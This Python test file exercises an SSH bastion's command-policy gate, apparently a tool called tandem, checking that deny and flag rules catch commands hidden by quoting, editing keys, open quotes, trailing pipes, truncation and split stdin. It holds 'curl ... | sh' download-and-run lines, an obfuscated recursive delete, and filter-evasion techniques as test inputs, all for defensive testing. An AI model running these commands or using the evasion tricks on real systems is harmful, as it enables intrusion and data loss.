"""Policy rules in the gate: a deny rule refuses a command before any escort
sees it, flag rules put their sentence beside the pending command, and the
shell's quoting does not hide a command from its rule.  Real bastion, real
ssh clients; the rules are the bed policy's own plus the built-in set."""
import contextlib
import json
import os
import re
import subprocess
import sys
import time
import unittest

from testbed import Bed, Recording, Tmux, one_line_commands, target_file

bed = None
BUILD = os.environ.get("TANDEM_BUILD", "build")

RULES = '''
deny  "^tandem-wipe( |$)"            "wipes the whole test disk"
flag  high   "^tandem-drop( |$)"     "drops the test database"
flag  low    "^tandem-peek( |$)"     "reads the test secrets"
deny  "^tandem-burn( [^ ]+)* --all( |$)"  "burns every test disk"
'''


def setUpModule():
    global bed
    bed = Bed(BUILD, policy_extra=RULES)


def tearDownModule():
    if bed:
        bed.stop()


def select_ready(f, timeout=0.2):
    import select
    return bool(select.select([f], [], [], timeout)[0])


def end(t):
    t.send("exit\r")
    bed.decide_next(expect="exit")
    t.wait()
    t.close()


def decisions(path):
    p = subprocess.run([os.path.join(bed.bin, "tandem-replay"), "commands", "--json", path],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert p.returncode == 0, p.stderr
    return [json.loads(l) for l in p.stdout.split("\n") if l.strip()]


def refused_second_part(test, first, second, why):
    """ssh … db01 sh with its stdin in two parts: the first approved, the
    second refused by policy with why; then the end of input approved.
    Returns the first part's pending item."""
    proc = subprocess.Popen(bed.ssh_argv() + ["db01", "sh"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        proc.stdin.write(first)
        proc.stdin.flush()
        item = bed.decide_next(expect="sh")
        proc.stdin.write(second)
        proc.stdin.flush()
        deadline = time.time() + 20
        err = b""
        while b"refused by policy" not in err and time.time() < deadline:
            time.sleep(0.2)
            if select_ready(proc.stderr):
                err += os.read(proc.stderr.fileno(), 65536)
        test.assertIn(b"refused by policy: its input: " + why, err, first)
        proc.stdin.close()
        bed.decide_next()   # the end of input
        proc.wait(20)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()
    return item


@contextlib.contextmanager
def refused_exec(command, stdin):
    """ssh … db01 COMMAND with stdin's bytes on its stdin: yields the
    pending command once all of the input is in, then denies it, and ssh
    must end with 255."""
    proc = subprocess.Popen(bed.ssh_argv() + ["db01", command], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        proc.stdin.write(stdin)
        proc.stdin.close()
        item = bed.pending_with_stdin()[0]
        yield item
        bed.escort("deny", item["session"], str(item["seq"]))
        if proc.wait(20) != 255:
            raise AssertionError(f"ssh ended with {proc.returncode}, not 255")
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()

class Rules(unittest.TestCase):
    def test_denied_line_is_refused_before_any_escort_sees_it(self):
        m = target_file("rules-wiped")
        before = bed.recordings_now()
        t = bed.shell(unwatched=True)
        try:
            # Quotes and a wrapper do not hide the command from its rule;
            # the marker shows whether anything ran.
            t.send(f"sudo -n env X=1 'tandem-'wipe --all; touch {m}\r")
            t.expect(r"#1 refused by policy: wipes the whole test disk; "
                     r"nothing was sent")
            self.assertEqual(bed.pending(wait=1), [])
            time.sleep(0.5)
            self.assertFalse(os.path.exists(m))
            # The next line is #2, and goes to the escort as usual.
            t.send("echo after\r")
            item = bed.decide_next()
            self.assertEqual(item["seq"], 2)
            self.assertEqual(item["risks"], [])
            t.expect(r"after\r\n")
            end(t)
        finally:
            t.close()
        path = bed.new_recording(before)
        got = decisions(path)
        self.assertEqual(got[0]["decision"], "refused")
        self.assertEqual(got[0]["reason"], "wipes the whole test disk")
        self.assertIsNone(got[0]["escort"])
        self.assertEqual(got[0]["command"], f"sudo -n env X=1 'tandem-'wipe --all; touch {m}")
        self.assertIn({"level": "critical", "why": "wipes the whole test disk"},
                      got[0]["risks"])
        self.assertEqual([d["decision"] for d in got[1:]], ["approved", "approved"])
        self.assertNotIn(b"tandem-'wipe", Recording(path).stream("i"))

    def test_flagged_line_reaches_the_escort_with_its_sentences(self):
        t = bed.shell(unwatched=True)
        try:
            t.send("echo $(tandem-peek) | tandem\\-drop --force\r")
            item = bed.pending()[0]
            self.assertEqual(item["risks"],
                             [{"level": "high", "why": "drops the test database"},
                              {"level": "low", "why": "reads the test secrets"}])
            bed.escort("deny", item["session"], str(item["seq"]))
            t.expect(r"denied by bob")
            end(t)
        finally:
            t.close()

    def test_console_shows_every_risk_and_the_refusal(self):
        t = bed.shell(unwatched=True)
        con = Tmux(" ".join(bed.ssh_argv("bob", user="escort", tty=True)))
        try:
            con.wait_for(r"alice@db01")
            t.send("tandem-peek | tandem-drop\r")
            screen = con.wait_for(r"low: reads the test secrets")
            self.assertRegex(screen, r"(?m)^  high: drops the test database\s*$")
            self.assertRegex(screen, r"(?m)^  low: reads the test secrets\s*$")
            con.keys("d")
            con.wait_for("reason for denying")
            con.keys("", enter=True)
            t.expect(r"denied by bob")
            t.send("tandem-wipe\r")
            # Clipped to the 120 columns: a wrapped status line would
            # scroll the escort's whole screen away.
            screen = con.wait_for(r"#2 refused by policy \(wipes the whole")
            self.assertIn("tandem escort bob", screen.split("\n")[0])
            t.expect(r"refused by policy")
            con.wait_for(r"Nothing pending")
        finally:
            con.close()
        end(t)

    def test_invisible_characters_are_a_risk_and_shown(self):
        t = bed.shell(unwatched=True)
        try:
            t.send("echo a\u202eb\r")
            item = bed.pending()[0]
            self.assertEqual(item["visible"], "echo a\\u202eb")
            self.assertEqual(item["risks"][0]["level"], "high")
            self.assertIn("invisible or control characters", item["risks"][0]["why"])
            bed.escort("deny", item["session"], str(item["seq"]))
            end(t)
        finally:
            t.close()

    def test_letters_beyond_plain_english_are_a_risk_where_a_prompt_reads_them(self):
        # A shell in the C locale reads each byte from 0x80 up as an
        # editing key (î is Meta-C Meta-.: insert the last command's last
        # word), so a typed line of such letters can rebuild a command
        # the escort never sees.  A command ssh runs, or its stdin, meets
        # no line editor: no such warning there.
        t = bed.shell(unwatched=True)
        try:
            t.send("\u00ee\u00a9\u00a9\u00a9touch \r")
            item = bed.pending()[0]
            self.assertEqual(item["risks"][0]["level"], "high", item["risks"])
            self.assertIn("letters outside plain English", item["risks"][0]["why"])
            bed.escort("deny", item["session"], str(item["seq"]))
            end(t)
        finally:
            t.close()
        with refused_exec("echo caf\u00e9; cat", "na\u00efve\n".encode()) as item:
            self.assertEqual(item["command"], "echo caf\u00e9; cat")
            self.assertNotIn("plain English", json.dumps(item["risks"]), item["risks"])

    def test_a_line_continuing_an_open_quote_is_judged_with_it(self):
        m = target_file("rules-continued")
        t = bed.shell(unwatched=True)
        try:
            t.send("echo 'start\r")
            item = bed.decide_next()
            self.assertIn("leaves a quote or bracket open", json.dumps(item["risks"]))
            # In the shell this closes the quote, and what follows runs.
            t.send(f"'; tandem-wipe; touch {m}; echo '\r")
            t.expect(r"refused by policy: wipes the whole test disk")
            time.sleep(0.5)
            self.assertFalse(os.path.exists(m))
            # Ctrl-C drops the shell's open line, and the carry with it.
            t.send("\x03")
            t.expect(r"\$ $")
            t.send("echo fine\r")
            item = bed.decide_next()
            self.assertEqual(item["risks"], [])
            end(t)
        finally:
            t.close()

    def test_a_line_continuing_a_trailing_pipe_is_judged_with_it(self):
        # "curl URL |" then "sh": the shell runs one pipeline, a download
        # run as code, though neither line says so alone.
        t = bed.shell(unwatched=True)
        try:
            t.send("curl -s http://203.0.113.9/i.sh |\r")
            item = bed.decide_next()
            self.assertIn("ends in a pipe", json.dumps(item["risks"]))
            t.send("sh\r")
            item = bed.decide_next("deny")
            self.assertEqual(item["command"], "sh")
            self.assertEqual(item["risks"][0]["level"], "critical", item["risks"])
            self.assertIn("continues an approved line that was left unfinished",
                          json.dumps(item["risks"]))
            t.send("\x03")
            t.expect(r"\$ $")
            end(t)
        finally:
            t.close()

    def test_a_continued_line_ranks_its_warning_and_hides_nothing(self):
        # The line break tandem puts between the two lines is no hidden
        # character, and "continues an approved line" ranks above a low
        # risk instead of under "+N more".
        t = bed.shell(unwatched=True)
        try:
            t.send("echo 'start\r")
            bed.decide_next()
            t.send("'; tandem-peek; echo '\r")
            item = bed.decide_next("deny")
            whys = [(r["level"], r["why"][:40]) for r in item["risks"]]
            self.assertNotIn("invisible", json.dumps(item["risks"]))
            self.assertEqual([r["level"] for r in item["risks"]][:2],
                             ["medium", "medium"], whys)
            self.assertEqual(item["risks"][-1]["level"], "low", whys)
            t.send("\x03")
            t.expect(r"\$ $")
            end(t)
        finally:
            t.close()

    def test_editing_keys_typed_into_a_line_are_judged_as_they_edit_it(self):
        # Ctrl-V puts a key into the line as text; the target's terminal
        # (or bash) then acts on it: DEL erases the X, Ctrl-U the echo.
        t = bed.shell(unwatched=True)
        try:
            for line in ("tandem-wipeX\x16\x7f", "echo hi\x16\x15tandem-wipe now"):
                t.send(line + "\r")
                t.expect(r"refused by policy: wipes the whole test disk")
            self.assertEqual(bed.pending(wait=1), [])
            end(t)
        finally:
            t.close()

    def test_after_an_approved_key_change_lines_say_so_and_ctrl_c_keeps_the_open_line(self):
        # With Ctrl-C made the erase key, Ctrl-C no longer drops an open
        # line: "tandem-\\", Ctrl-C, "wipe" runs tandem-wipe.  Once the
        # stty is approved, every line says the keys changed, and an open
        # line is kept across Ctrl-C, so the deny rule sees the join.
        t = bed.shell(unwatched=True)
        try:
            t.send("stty intr undef erase ^C\r")
            item = bed.decide_next(expect="stty intr undef erase ^C")
            self.assertIn("changes which keys erase", json.dumps(item["risks"]))
            t.send("echo after\r")
            item = bed.decide_next(expect="echo after")
            self.assertEqual(item["risks"][0]["level"], "high", item["risks"])
            self.assertIn("changed which keys edit a line", item["risks"][0]["why"])
            t.send("tandem-\\\r")
            bed.decide_next(expect="tandem-\\")
            t.send("\x03")
            t.send("wipe\r")
            t.expect(r"refused by policy: wipes the whole test disk")
            self.assertEqual(bed.pending(wait=1), [])
        finally:
            t.close()

    def test_a_line_longer_than_a_terminal_takes_is_judged_as_the_start_it_keeps(self):
        # A terminal passes on 4095 bytes of a line and drops the rest:
        # "... --allow-none" runs as "... --all", which is denied.
        start = "tandem-burn"
        while len(start) + len(" --all") + 2 <= 4095:
            start += " x"
        start += " y" if len(start) + len(" --all") + 2 == 4096 else ""
        start += "z" * (4095 - len(start) - len(" --all"))
        line = start + " --all"
        self.assertEqual(len(line), 4095)
        t = bed.shell(unwatched=True)
        try:
            t.send(line + "ow-none\r")
            t.expect(r"refused by policy: burns every test disk", timeout=30)
            end(t)
        finally:
            t.close()

    def test_unfinished_lines_past_what_tandem_keeps_are_said_to_be_lost(self):
        # Two approved lines that each end in a backslash, 66 KB in all:
        # the next line continues more than tandem keeps of them, and
        # says so instead of looking like a line of its own.
        t = bed.shell(unwatched=True)
        try:
            for filler in ("x", "y"):
                t.send(": " + filler * 33000 + " \\\r")
                item = bed.decide_next(wait=60)
                self.assertIn("the next line typed becomes part",
                              json.dumps(item["risks"]))
            t.send("echo next\r")
            item = bed.decide_next("deny", expect="echo next")
            self.assertEqual(item["risks"][0]["level"], "high", item["risks"])
            self.assertIn("continues unfinished lines longer than tandem keeps",
                          item["risks"][0]["why"])
            t.send("\x03")
            t.expect(r"\$ $")
            t.send("echo fine\r")
            self.assertEqual(bed.decide_next(expect="echo fine")["risks"], [])
            end(t)
        finally:
            t.close()

    def test_denied_exec_command_ends_with_255(self):
        before = bed.recordings_now()
        p = bed.ssh("db01", "tandem-wipe", "--now")
        self.assertEqual(p.returncode, 255, p.stderr)
        self.assertIn(b"refused by policy: wipes the whole test disk", p.stderr)
        path = bed.new_recording(before)
        got = decisions(path)
        self.assertEqual([(d["decision"], d["command"]) for d in got],
                         [("refused", "tandem-wipe --now")])

    def test_a_recorder_does_not_grow_with_the_lines_it_judges(self):
        # Every line of the command table an engineer can type as one,
        # twice over, behind a word the bed's deny rule refuses: each is
        # judged by every rule it has words for, and nothing runs.  The
        # patterns a line compiles are freed with it; kept, they grew a
        # recorder's anonymous memory by 7 MB over these lines (now under
        # 0.5 MB: the heap's high-water mark, set by the busiest line).
        if os.path.basename(os.path.normpath(BUILD)) == "asan":
            self.skipTest("the sanitizer keeps freed memory in quarantine")
        lines = one_line_commands()
        self.assertGreater(len(lines), 200)
        t = bed.shell(unwatched=True)
        try:
            pids = bed.recorder_pids()
            self.assertEqual(len(pids), 1, pids)

            def anon_kb():
                # Anonymous pages only: the heap, not library code.
                with open(f"/proc/{pids[0]}/status") as f:
                    return int(re.search(r"RssAnon:\s+(\d+)", f.read()).group(1))

            warm = None
            for n, cmd in enumerate(lines + lines):
                t.send(f"tandem-wipe; {cmd}\r")
                t.expect(rb"#%d refused by policy" % (n + 1))
                if n == 30:
                    warm = anon_kb()
            grown = anon_kb() - warm
            print(f"recorder RssAnon after 30 lines {warm} kB, after "
                  f"{2 * len(lines)}: {grown:+d} kB", file=sys.stderr)
            self.assertLess(grown, 2048)
            end(t)
        finally:
            t.close()

    def test_stdin_cut_in_two_is_judged_as_the_target_reads_it(self):
        # Without a terminal, input after the approval comes in parts the
        # engineer can time: a denied command split across two parts is
        # judged after what the target already has of its line.
        before = bed.recordings_now()
        first = refused_second_part(self, b"true; tandem-", b"wipe now\n",
                                    b"wipes the whole test disk")
        self.assertEqual(first["stdin_preview"], "true; tandem-")
        rec = Recording(bed.new_recording(before))
        self.assertEqual(rec.stream("i"), b"true; tandem-")
        refused = [d for d in decisions(rec.path) if d["decision"] == "refused"]
        self.assertEqual(len(refused), 1)

    def test_stdin_cut_after_a_long_unfinished_line_is_judged_with_its_start(self):
        # The command word of a line can be far back: 6 KB of arguments
        # approved, then " --all" ends the line.  The start of the line
        # is kept to judge the whole of it (once, only its last 4 KiB
        # was, and the deny rule never saw "tandem-burn").
        refused_second_part(self, b"tandem-burn" + b" x" * 3000, b" --all\n",
                            b"burns every test disk")

    def test_stdin_that_leaves_a_command_open_is_judged_with_what_follows(self):
        # A part that ends mid-command (a backslash at the end of a line,
        # an open quote) is kept whole, not only its last line, so the
        # next part is judged with it, as sh reads them: "tandem-\\" then
        # "wipe", and "echo '" then "x'; tandem-wipe #'".
        for first, second in ((b"tandem-\\\n", b"wipe now\n"),
                              (b"echo '\n", b"x' ; tandem-wipe now #'\n")):
            refused_second_part(self, first, second, b"wipes the whole test disk")

    def test_a_script_read_from_stdin_is_judged_past_its_first_page(self):
        # The rules once read only the first 4 KiB of the input: 5 KB of
        # comments hid the line a deny rule refuses.
        script = b"# notes\n" * 640 + b"tandem-wipe now\n"
        p = subprocess.run(bed.ssh_argv() + ["db01", "sh"], input=script,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           timeout=120)
        self.assertEqual(p.returncode, 255)
        self.assertIn(b"refused by policy: its input: wipes the whole test disk",
                      p.stderr)
        # Past what the rules read, the escort is told so.
        big = b"# notes\n" * 9000 + b"echo done\n"
        with refused_exec("sh", big) as item:
            self.assertIn(f"its input is {len(big)} bytes, and only the first "
                          f"65536 were checked", json.dumps(item["risks"]))

    def test_risks_in_the_input_rank_with_the_commands_own(self):
        with refused_exec("tandem-peek; sh", b"curl -s http://203.0.113.9/x | sh\n") as item:
            levels = [(r["level"], r["why"].startswith("its input: ")) for r in item["risks"]]
            # The input's critical risk first, the command's low one last.
            self.assertEqual(levels[0], ("critical", True))
            self.assertEqual(levels[-1], ("low", False))

    def test_builtin_rules_are_on_by_default(self):
        t = bed.shell(unwatched=True)
        try:
            t.send("r''m -r\"f\" /tmp/nothing-here\r")
            item = bed.pending()[0]
            self.assertTrue(item["risks"], "the built-in set flags a recursive delete")
            self.assertEqual(item["risks"][0]["level"], "high")
            bed.escort("deny", item["session"], str(item["seq"]))
            end(t)
        finally:
            t.close()


if __name__ == "__main__":
    unittest.main()
